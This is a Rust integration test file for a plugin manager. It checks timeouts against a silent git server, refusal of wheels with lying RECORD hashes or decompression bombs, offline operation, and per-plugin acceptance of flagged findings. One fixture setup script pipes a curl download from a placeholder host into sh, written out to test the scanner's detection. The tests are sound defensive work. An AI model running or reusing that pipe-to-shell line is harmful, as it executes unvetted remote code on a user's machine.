//! Hostile cases that need a live peer: a git server that accepts and never answers, an
//! index serving wheels whose RECORD lies or that unpack to a bomb, and an index that is gone
//! (operations that change no dependency must not need it).

use std::io::Read;
use std::net::TcpListener;
use std::time::{Duration, Instant};

use super::common::index::{TestIndex, Wheel};
use super::common::world::{self, World};

/// A server on 127.0.0.1 that accepts connections, reads, and never answers.
struct Silent {
    port: u16,
}

impl Silent {
    fn start() -> Silent {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                std::thread::spawn(move || {
                    let mut buf = [0u8; 1024];
                    while let Ok(n) = stream.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                    }
                });
            }
        });
        Silent { port }
    }
}

/// `install` from a git server that never answers: fails within the stall limit (exit 3,
/// saying so), and does not hold the writer lock while it waits — another writer finishes
/// meanwhile.
#[test]
fn a_silent_git_server_neither_hangs_install_nor_blocks_other_writers() {
    let server = Silent::start();
    let w = World::new();
    let url = format!("http://127.0.0.1:{}/plugin.git", server.port);
    let started = Instant::now();
    let mut install = w.std_cmd(&["install", &url]);
    install
        .env("HERMES_PLUGINS_GIT_TIMEOUT", "3")
        .env("HERMES_PLUGINS_GIT_CONNECT_TIMEOUT", "3")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = install.spawn().unwrap();
    std::thread::sleep(Duration::from_millis(500));
    // Meanwhile, another writer takes the lock and finishes.
    let (code, _, err) = w.run(&["generations", "gc"]);
    assert_eq!(code, Some(0), "a writer waited for a fetch: {err}");
    assert!(!err.contains("waiting for"), "{err}");
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(
        stderr.contains("timed out") || stderr.contains("stalled"),
        "{stderr}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "took {:?}",
        started.elapsed()
    );
}

/// A world whose index serves `extra` next to the usual packages, and a plugin needing `dep`.
fn world_with(extra: Vec<Wheel>, dep: &str) -> (World, std::path::PathBuf) {
    let mut wheels = vec![
        Wheel::new("weatherlib", "1.0.0", "2025-01-01T00:00:00Z").requires("colorlib>=1"),
        Wheel::new("colorlib", "1.0.0", "2025-01-01T00:00:00Z"),
    ];
    wheels.extend(extra);
    let mut w = World::new();
    w.index = TestIndex::start(&wheels);
    let plugin = w.tmp.path().join("src/p");
    for (path, text) in world::plugin_files("p", "1.0.0", &[dep]) {
        let full = plugin.join(path);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        std::fs::write(full, text).unwrap();
    }
    (w, plugin)
}

/// Bytes under a directory (files only).
fn du(dir: &std::path::Path) -> u64 {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| e.metadata().map_or(0, |m| m.len()))
        .sum()
}

/// A wheel whose RECORD lies is refused before anything is published.
#[test]
fn a_wheel_whose_record_lies_is_refused() {
    let (w, plugin) = world_with(
        vec![Wheel::new("liar", "1.0.0", "2025-01-01T00:00:00Z").lying_record()],
        "liar>=1",
    );
    let (code, _, err) = w.run(&[
        "install",
        "--enable",
        "--yes-deps",
        plugin.to_str().unwrap(),
    ]);
    assert_ne!(code, Some(0), "{err}");
    assert!(code.is_some(), "killed by a signal");
    assert!(
        err.contains("does not match the sha256 its RECORD gives"),
        "{err}"
    );
    assert_eq!(w.current(), None, "a generation was published");
}

/// A wheel that unpacks far beyond the limit is refused without being unpacked to disk.
#[test]
fn a_decompression_bomb_is_refused_before_it_reaches_the_disk() {
    let zeros = vec![0u8; 96 * 1024 * 1024];
    let (w, plugin) = world_with(
        vec![
            Wheel::new("bomb", "1.0.0", "2025-01-01T00:00:00Z").with_file("bomb/zeros.bin", zeros),
        ],
        "bomb>=1",
    );
    let mut cmd = w.cmd(&[
        "install",
        "--enable",
        "--yes-deps",
        plugin.to_str().unwrap(),
    ]);
    cmd.env("HERMES_PLUGINS_MAX_WHEEL_SIZE", (32u64 << 20).to_string());
    let out = cmd.output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.code().is_some_and(|c| c != 0), "{err}");
    assert!(err.contains("unpacks to more than"), "{err}");
    assert_eq!(w.current(), None);
    let cache = w.pm().join("cache");
    assert!(
        du(&cache) < 8 << 20,
        "{} bytes were written under {}",
        du(&cache),
        cache.display()
    );
}

/// Disabling a plugin without dependencies, and granting a capability to one with
/// dependencies, publish without the index: the lock is reused and wheels come from the
/// checked cache.
#[test]
fn changes_without_new_dependencies_never_touch_the_network() {
    let mut w = World::new();
    let free = w.tmp.path().join("src/free");
    std::fs::create_dir_all(&free).unwrap();
    std::fs::write(
        free.join("plugin.yaml"),
        "name: free\nversion: \"1.0\"\ndescription: no dependencies\nprovides_tools: [free_tool]\n",
    )
    .unwrap();
    std::fs::write(
        free.join("__init__.py"),
        "def register(ctx):\n    ctx.register_tool(name=\"free_tool\", toolset=\"free\", schema={}, handler=print)\n",
    )
    .unwrap();
    let deps = w.tmp.path().join("src/deps");
    for (path, text) in world::plugin_files("deps", "1.0.0", &["weatherlib>=1"]) {
        let full = deps.join(&path);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        let text = if path == "plugin.yaml" {
            format!("{text}capabilities:\n  - tools.override\n")
        } else {
            text
        };
        std::fs::write(full, text).unwrap();
    }
    w.ok(&["install", "--enable", "--yes-deps", free.to_str().unwrap()]);
    w.ok(&["install", "--enable", "--yes-deps", deps.to_str().unwrap()]);
    let before = w.current().unwrap();
    let version = w.venv_python("import weatherlib; print(weatherlib.__version__)");
    // The index goes away (same URL, nothing answers).
    w.index.stop();
    let (code, _, err) = w.run(&["disable", "free"]);
    assert_eq!(code, Some(0), "disable needed the network: {err}");
    let (code, _, err) = w.run(&["capabilities", "deps", "--grant", "tools.override"]);
    assert_eq!(code, Some(0), "a grant needed the network: {err}");
    assert!(w.current().unwrap() > before);
    assert_eq!(
        w.venv_python("import weatherlib; print(weatherlib.__version__)"),
        version
    );
}

/// A `dangerous` verdict is answered per plugin and per finding, never with a global switch:
/// refused naming each finding's id (`--force` does not pass it), accepted by id for that
/// plugin (recorded with the flagged file's hash, and in the audit log), kept by an update
/// that leaves that file alone, asked again by one that changes it; an id the plugin does not
/// have is a usage error.
#[test]
fn a_dangerous_finding_is_accepted_per_plugin_and_asked_again_when_its_file_changes() {
    let w = World::new();
    let files = |setup: &str, init: &str| -> Vec<(String, String)> {
        vec![
            (
                "plugin.yaml".into(),
                "name: hinted\nversion: 1.0.0\ndescription: A plugin whose setup script pipes a download to sh\n".into(),
            ),
            ("__init__.py".into(), init.into()),
            ("setup.sh".into(), setup.into()),
        ]
    };
    let setup = "#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\n";
    let repo = world::repo_with(
        &w,
        "hinted",
        &files(setup, "def register(ctx):\n    pass\n"),
    );
    let url = world::file_url(&repo);
    let id = "pipe-to-shell@setup.sh:2";

    let (code, _, err) = w.run(&["install", &url, "--force"]);
    assert_eq!(code, Some(1), "{err}");
    assert!(err.contains(&format!("--accept-finding {id}")), "{err}");
    let (code, _, err) = w.run(&[
        "install",
        &url,
        "--accept-finding",
        "pipe-to-shell@setup.sh:9",
    ]);
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("no such dangerous finding") && err.contains(id),
        "{err}"
    );
    assert!(w.json(&["list"])["plugins"].as_array().unwrap().is_empty());

    w.ok(&["install", &url, "--accept-finding", id]);
    let installed: serde_json::Value =
        serde_json::from_slice(&std::fs::read(w.pm().join("installed.json")).unwrap()).unwrap();
    let accepted = &installed["plugins"]["hinted"]["accepted_findings"];
    assert_eq!(accepted[0]["id"], id, "{installed:#}");
    assert_eq!(
        accepted[0]["sha256"].as_str().unwrap().len(),
        64,
        "{installed:#}"
    );
    let audit = std::fs::read_to_string(w.pm().join("audit.log")).unwrap();
    assert!(
        audit.contains("\"accept-finding\"") && audit.contains(id),
        "{audit}"
    );

    // The flagged file unchanged: the acceptance stands.
    world::commit(
        &repo,
        &files(setup, "def register(ctx):\n    pass  # 1.0.1\n"),
        "touch init",
    );
    w.ok(&["update", "hinted"]);
    // An id no plugin being updated has is a usage error, not consent.
    let (code, _, err) = w.run(&[
        "update",
        "hinted",
        "--accept-finding",
        "pipe-to-shell@x.sh:1",
    ]);
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("no plugin being updated has that dangerous finding"),
        "{err}"
    );
    // Changed: asked again, under the finding's new id.
    let moved = format!("#!/bin/sh\nset -e\n{}", &setup["#!/bin/sh\n".len()..]);
    world::commit(
        &repo,
        &files(&moved, "def register(ctx):\n    pass  # 1.0.1\n"),
        "setup",
    );
    let (code, _, err) = w.run(&["update", "hinted"]);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains("--accept-finding pipe-to-shell@setup.sh:3"),
        "{err}"
    );
    w.ok(&[
        "update",
        "hinted",
        "--accept-finding",
        "pipe-to-shell@setup.sh:3",
    ]);
}
